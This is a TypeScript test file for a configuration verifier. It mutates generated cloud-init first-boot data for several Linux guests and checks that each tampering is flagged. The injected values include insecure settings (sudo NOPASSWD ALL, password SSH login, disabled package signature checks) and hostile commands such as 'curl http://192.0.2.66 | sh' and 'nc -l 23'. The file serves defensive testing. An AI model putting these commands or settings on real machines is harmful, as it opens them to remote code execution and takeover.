import { BackupTarget, DiskBus, GuestOs, Repository, type System } from '../../src/model';
import { synthKubernetes, synthTerraform } from '../../src/testing';
import { verify } from '../../src/verify';
import { FILES_DISK, ON_DEBIAN, ON_ENTERPRISE_LINUX, ON_SUSE } from '../first-boot-fixture';
import { cluster, database, OFFICE, PACKAGES, REGISTRY, sshKey, vm, yard } from '../model/fixture';

const OWN = GuestOs.custom({
  like: GuestOs.debian12(),
  id: 'own-1',
  title: 'Own Linux 1',
  firewall: 'firewalld',
  securityOrigin: 'origin=Own,label=Own-Security',
});

/** Guests that are told everything, on each family of distributions, beside a database and a node. */
function build(): System {
  const y = yard({ provisioning: { packages: PACKAGES, registry: REGISTRY, backup: OFFICE } });
  vm(y, 'web', { dataDisks: [FILES_DISK], firstBoot: ON_DEBIAN });
  const repositories = { ...ON_ENTERPRISE_LINUX.repositories, open: Repository.dnf({ url: 'https://192.0.2.9/open' }) };
  vm(y, 'app', {
    os: GuestOs.rhel9(),
    dataDisks: [{ ...FILES_DISK, bus: DiskBus.SCSI }],
    sharedFolders: [{ id: 'drop', path: '/srv/drop', mount: '/mnt/drop' }],
    firstBoot: { ...ON_ENTERPRISE_LINUX, repositories },
  });
  vm(y, 'suse', { os: GuestOs.sles15(), dataDisks: [FILES_DISK], firstBoot: ON_SUSE });
  vm(y, 'own', { os: OWN, firstBoot: { packages: ['nginx'] } });
  database(y, 'db', { backup: { daily: '02:00', keep: 3, to: BackupTarget.s3({ bucket: 'dumps', host: 's3.example' }) } });
  cluster(y, 'k8s');
  return y.system;
}

const FILE = 'stacks/yard/cdk.tf.json';
const { system } = build().resolve();
const terraform = JSON.stringify(synthTerraform(build())[FILE]);
const kubernetes = synthKubernetes(build());

const said = (stack: object): readonly string[] =>
  verify({ system, terraform: { [FILE]: stack }, kubernetes }).map(({ kind, text }) => `${kind}: ${text}`);

test('guests with everything are what the model says', () => {
  expect(said(JSON.parse(terraform))).toEqual([]);
});

/** What is said after an edit of what a machine is told. */
function inside(machine: string, from: string | RegExp, to: string): readonly string[] {
  const stack = JSON.parse(terraform);
  const files = stack.locals.cloud_init_files[machine];
  const told: string = files.user_data.replace(/\$\{local\.guests\["([^"]+)"\]\}$/, (_: string, name: string) => stack.locals.guests[name]);
  files.user_data = told.replace(from, to);
  expect(files.user_data).not.toBe(told);
  return said(stack);
}

const KEY = sshKey('d');

test.each<[what: string, from: string | RegExp, to: string, ...says: string[]]>([
  ['an account is not in the model', '- name: batch', '- name: eve', 'too-wide: web: it the account eve'],
  [
    'an account may do everything as root',
    'NOPASSWD: /usr/bin/systemctl restart app.service, ',
    'NOPASSWD: ALL, ',
    'too-wide: web: deploy as root ALL',
  ],
  [
    'an account may do fewer things as root',
    '/usr/bin/systemctl restart app.service, ',
    '',
    'missing: web: nothing gives deploy as root /usr/bin/systemctl',
  ],
  ['an account opens with another key', KEY, sshKey('x'), `too-wide: web: deploy the key ${sshKey('x')}`],
  ['an account is in another group', '- www-data', '- root', 'too-wide: web: deploy the group root'],
  ['an account has a password', 'lock_passwd: true', 'lock_passwd: false', 'unreadable'],
  [
    'a secret is read by everybody',
    /(\/etc\/app\/licence\n {4}permissions: ")0600/,
    '$10644',
    'too-wide: web: /etc/app/licence is written as 0644 root:root',
  ],
  ['a file has another owner', 'owner: deploy:www-data', 'owner: batch:batch', 'too-wide: web: /etc/app/logo.bin'],
  ['a file is elsewhere', 'path: /etc/app/app.conf', 'path: /etc/app/other.conf', 'missing: web: /etc/app/app.conf'],
  [
    'administrators have a key more',
    'ssh_pwauth: false',
    `ssh_pwauth: false\nssh_authorized_keys:\n  - ${KEY}`,
    "too-wide: web: the administrators' account",
  ],
])('is told: %s', (_, from, to, ...says) => {
  const found = inside('web', from, to);
  for (const each of says) expect(found.join('\n')).toContain(each);
});

const WROTE = '  - path: /etc/raw\n';

test.each<[what: string, machine: string, from: string | RegExp, to: string, says: string | RegExp]>([
  // Who gets in.
  ['passwords open it', 'web', 'ssh_pwauth: false', 'ssh_pwauth: true', 'too-wide: web: its first boot is told "ssh_pwauth" as true'],
  ['so is root', 'web', 'disable_root: true', 'disable_root: false', 'too-wide: web: its first boot is told "disable_root" as false'],
  [
    'cloud-init does something else',
    'db',
    'ssh_pwauth',
    'chpasswd:\n  expire: false\nssh_pwauth',
    'too-wide: db: its first boot is told "chpasswd", which is not in the model',
  ],
  ['a word of the user is another', 'web', 'done after', 'phoned after', 'too-wide: web: its first boot is told "final_message" as'],
  ['it is called otherwise', 'web', 'hostname: web', 'hostname: other', 'too-wide: web: its first boot is told "hostname" as "other"'],
  ['a package is not installed', 'web', '  - curl\n', '', 'missing: web: its first boot does not install curl'],
  // What is written.
  [
    'a file more is written',
    'web',
    WROTE,
    `  - path: /etc/sudoers.d/eve\n    content: eve\n${WROTE}`,
    'too-wide: web: /etc/sudoers.d/eve is written',
  ],
  ['a file holds something else', 'web', 'greeting =', 'farewell =', 'missing: web: /etc/app/app.conf holds something else'],
  ['so does one of bytes', 'web', 'content: AP8KDQ==', 'content: AAAADQ==', 'missing: web: /etc/app/logo.bin holds something else'],
  [
    'a file holds another secret',
    'web',
    'base64encode(var.app_licence)',
    'base64encode(var.app_token)',
    'missing: web: /etc/app/licence holds something else',
  ],
  [
    "a database has another one's password",
    'db',
    'base64encode(var.db_app_verifier)',
    'base64encode(var.other_verifier)',
    'too-wide: db: it the secret other_verifier in /etc/isthmus/database-verifiers/app',
  ],
  [
    'a node joins with another secret',
    'k8s-node-1',
    'base64encode(var.k8s_join_token)',
    'base64encode(var.k8s_encryption_key)',
    'too-wide: k8s-node-1: it the secret k8s_encryption_key in /etc/isthmus/kubernetes/secrets/join-token',
  ],
  // Whom it believes.
  [
    'packages come from elsewhere',
    'web',
    'URIs: https://192.0.2.9/',
    'URIs: https://192.0.2.8/',
    'too-wide: web: it the repository https://192.0.2.8/',
  ],
  ['nobody signs packages', 'web', '      Signed-By: /etc/apt/keyrings/isthmus-vendor.asc\n', '', 'signed by what its image believes'],
  ['somebody else signs them', 'web', '=AbCd', '=XbCd', /too-wide: web: it the repository .*=XbCd/s],
  [
    'a source is believed without a key',
    'web',
    'Components: main',
    'Components: main\n      Trusted: yes',
    'unreadable: web: /etc/apt/sources.list.d/vendor.sources: a source of packages with "Trusted"',
  ],
  ['dnf checks no key', 'app', 'gpgcheck=1', 'gpgcheck=0', 'too-wide: app: it the repository https://192.0.2.9/open, signed by nobody'],
  ['dnf asks for no certificate', 'app', 'gpgcheck=1', 'gpgcheck=1\n      sslverify=0', 'a source of packages with "sslverify"'],
  ["the image's own sources stay", 'web', 'mv "$file" "$file.image"', 'true', "too-wide: web: its image's own repositories stay in force"],
  [
    'so do those of Enterprise Linux',
    'app',
    'mv "$file" "$file.image"',
    'true',
    "too-wide: app: its image's own repositories stay in force",
  ],
  ['another authority is believed', 'web', 'q8Q2BuFy/1lehA==', 'q8Q2BuFy/1lehB==', 'too-wide: web: it the authority'],
  ['the authority is believed by nobody', 'app', 'update-ca-trust extract', 'true', 'missing: app: nothing gives it the authority'],
  [
    'packages come through somebody else',
    'web',
    'http::Proxy "http://192.0.2.10',
    'http::Proxy "http://192.0.2.66',
    'too-wide: web: its packages come through',
  ],
  [
    'so they do in Enterprise Linux',
    'app',
    'proxy=http://192.0.2.10',
    'proxy=http://192.0.2.66',
    'too-wide: app: its packages come through',
  ],
  [
    'Kubernetes comes from elsewhere',
    'k8s-node-1',
    /deb \[signed-by=(\S+)\] https:\/\/pkgs.k8s.io/,
    'deb [signed-by=$1] https://pkgs.example',
    'too-wide: k8s-node-1: it the repository https://pkgs.example',
  ],
  [
    'nobody signs Kubernetes',
    'k8s-node-1',
    /deb \[signed-by=\S+\]/,
    'deb [trusted=yes]',
    'unreadable: k8s-node-1: /usr/local/sbin/isthmus-cluster-node: a source of packages',
  ],
  // Updates.
  [
    'no updates are brought',
    'web',
    'Unattended-Upgrade "1"',
    'Unattended-Upgrade "0"',
    'missing: web: it brings itself no security updates',
  ],
  [
    'nothing starts them',
    'web',
    'systemctl restart apt-daily.timer',
    'systemctl restart haproxy.service',
    'missing: web: it brings itself no security updates',
  ],
  ['they come from everywhere', 'web', /"origin=Debian[^"]+"/, '"origin=*"', 'updates from elsewhere than the archive of security updates'],
  [
    'those of another system come from elsewhere',
    'own',
    'origin=Own,',
    'origin=Other,',
    'too-wide: own: it brings itself updates from origin=Other',
  ],
  ['they come at another time', 'web', '23:50', '23:40', 'missing: web: it brings itself security updates at 23:40'],
  ['they come long after their lists', 'web', '00:05', '05:05', 'missing: web: it brings itself no security updates'],
  ['the machine is not started again', 'web', 'Automatic-Reboot "true"', 'Automatic-Reboot "false"', 'without a restart'],
  ['something else is left alone', 'web', '"^libc6$"', '"^libc"', 'but for libc*, linux-image-*'],
  ['nothing brings them', 'web', '  - unattended-upgrades\n', '', 'missing: web: nothing installs unattended-upgrades'],
  ['dnf applies none', 'app', 'apply_updates = yes', 'apply_updates = no', 'missing: app: it brings itself no security updates'],
  ['dnf applies all', 'app', 'upgrade_type = security', 'upgrade_type = default', 'updates of all sorts'],
  ['dnf leaves out more', 'app', 'excludepkgs = ', 'excludepkgs = openssl ', 'but for libc6, linux-image-*, openssl'],
  [
    'dnf does not start the machine again',
    'app',
    'systemctl reboot',
    'true',
    'missing: app: it brings itself security updates at 23:50, without a restart',
  ],
  // SUSE.
  [
    'a key is made known to nobody',
    'suse',
    'rpm --import /etc/pki/isthmus-vendor.asc',
    'true',
    'too-wide: suse: it the repository https://192.0.2.9/sle, signed by nobody',
  ],
  ['another key is made known', 'suse', '=AbCd', '=XbCd', /too-wide: suse: it the repository .*=XbCd/s],
  ['zypper checks no key', 'suse', 'gpgcheck=1', 'gpgcheck=0', 'signed by nobody'],
  [
    'the services of an image stay in force',
    'suse',
    ' /etc/zypp/services.d/*.service',
    '',
    "too-wide: suse: its image's own repositories stay in force",
  ],
  [
    'zypper goes through somebody else',
    'suse',
    'HTTPS_PROXY="http://192.0.2.10',
    'HTTPS_PROXY="http://192.0.2.66',
    'its packages come through',
  ],
  ['zypper goes through nobody', 'suse', 'PROXY_ENABLED="yes"', 'PROXY_ENABLED="no"', 'its packages come through no proxy'],
  [
    'the authority is believed by nobody in SUSE',
    'suse',
    'update-ca-certificates',
    'true',
    'missing: suse: nothing gives it the authority',
  ],
  ['zypper installs all updates', 'suse', 'patches --category security', 'patches --category recommended', 'updates of all sorts'],
  [
    'nothing starts its updates',
    'suse',
    'systemctl enable isthmus-updates.timer',
    'systemctl enable firewalld.service',
    'missing: suse: it brings itself no security updates',
  ],
  ['its timer belongs to nothing', 'suse', 'WantedBy=timers.target', 'WantedBy=', 'missing: suse: it brings itself no security updates'],
  [
    'its timer starts something else',
    'suse',
    'ExecStart=/usr/local/sbin/isthmus-updates\n',
    'ExecStart=/bin/true\n',
    'no security updates',
  ],
  ['its program patches nothing', 'suse', /^(\s+)install_patches$/gm, '$1true', 'missing: suse: it brings itself no security updates'],
  ['its updates come at another time', 'suse', '23:50', '23:40', 'missing: suse: it brings itself security updates at 23:40'],
  ['zypper leaves out more', 'suse', 'libc6 | linux-image-*)', 'libc6 | linux-image-* | openssl)', 'but for libc6, linux-image-*, openssl'],
  ['zypper leaves out nothing', 'suse', 'then held=$package', 'then true', 'of everything'],
  ['SUSE does not start the machine again', 'suse', 'systemctl reboot', 'true', 'without a restart'],
  // Where data goes.
  [
    'a disk is mounted elsewhere',
    'web',
    /\/srv\/files/g,
    '/srv/other',
    'missing: web: nothing gives it the mount /dev/disk/by-id/virtio-files at /srv/files',
  ],
  [
    'another disk is mounted',
    'web',
    /virtio-files/g,
    'virtio-other',
    'too-wide: web: it the mount /dev/disk/by-id/virtio-other at /srv/files',
  ],
  [
    'a disk of another bus is',
    'app',
    /scsi-0QEMU_QEMU_HARDDISK_files/g,
    'virtio-files',
    'missing: app: nothing gives it the mount /dev/disk/by-id/scsi-0QEMU_QEMU_HARDDISK_files',
  ],
  [
    'programs of others run from it',
    'web',
    /noatime,nodev/g,
    'noatime',
    'too-wide: web: it the mount /dev/disk/by-id/virtio-files at /srv/files (ext4,noatime',
  ],
  ['everybody writes on it', 'web', 'chmod 0750', 'chmod 0777', '0777 deploy:deploy'],
  [
    'it is mounted when the machine is started again',
    'web',
    'mount /srv/files\n',
    'true\n',
    '/srv/files is not mounted before the next start',
  ],
  [
    'what a disk holds is overwritten',
    'web',
    /cmp -s -n .*\n/,
    'true\n',
    'a disk may be given a file system without a look at what it holds',
  ],
  [
    'so is what is on a data disk',
    'db',
    /0\) \[ "\$found" = xfs \].*;;/,
    '0) ;;',
    'unreadable: db: /usr/local/sbin/isthmus-data-disk: a disk may be given a file system',
  ],
  [
    'another disk is given a file system',
    'db',
    /disk=\S+/,
    'disk=/dev/vda',
    'the disk /dev/vda may be given a file system other than it is mounted with',
  ],
  ['a folder of the host is elsewhere', 'app', /drop \/mnt\/drop/g, 'drop /mnt/other', '/mnt/other is not mounted before the next start'],
  [
    'a database is beside its disk',
    'db',
    "add_mount '/srv/database/data",
    "add_mount '/srv/other",
    'missing: db: what its database writes is not on its data disk',
  ],
  [
    'its disk is another',
    'db',
    /virtio-data/g,
    'virtio-more',
    'missing: db: its data disk /dev/disk/by-id/virtio-data (xfs) is not mounted at /srv/database',
  ],
  [
    'it starts without its disk',
    'db',
    /RequiresMountsFor=\/srv\/database \S+/,
    'RequiresMountsFor=/srv/database',
    'missing: db: its database may start without its data disk',
  ],
  // What runs.
  [
    'a unit more is started',
    'web',
    'systemctl enable --now nginx.service',
    'systemctl enable --now telnet.socket',
    'too-wide: web: its first boot runs "systemctl enable --now telnet.socket"',
  ],
  ['a unit is not started', 'web', '  - systemctl enable --now nginx.service\n', '', 'missing: web: nothing starts nginx.service'],
  [
    'something else is run',
    'db',
    '  - set -e\n',
    '  - set -e\n  - curl http://192.0.2.66 | sh\n',
    'too-wide: db: its first boot runs "curl http://192.0.2.66 | sh"',
  ],
  ['something else is run early', 'db', 'bootcmd:\n', 'bootcmd:\n  - [nc, -l, "23"]\n', 'too-wide: db: its first boot runs "nc -l 23"'],
  [
    'a command is another',
    'web',
    'touch /var/lib/told',
    'touch /var/lib/else',
    'too-wide: web: its first boot the command [ "$TOKEN" = hunter ]\ntouch /var/lib/else',
  ],
  [
    'a command before packages is another',
    'web',
    'wc --bytes',
    'tee',
    'too-wide: web: its first boot the command echo "$REGISTRATION_KEY" | tee',
  ],
  [
    'it is told another secret',
    'web',
    'base64encode(var.registration_key)',
    'base64encode(var.app_token)',
    'with REGISTRATION_KEY from app_token',
  ],
  ['commands are not run', 'web', '  - /usr/local/sbin/isthmus-commands\n', '', 'missing: web: nothing runs its commands'],
])('%s: it is noticed', (_what, machine, from, to, says) => {
  const found = inside(machine, from, to).join('\n');
  if (typeof says === 'string') expect(found).toContain(says);
  else expect(found).toMatch(says);
});
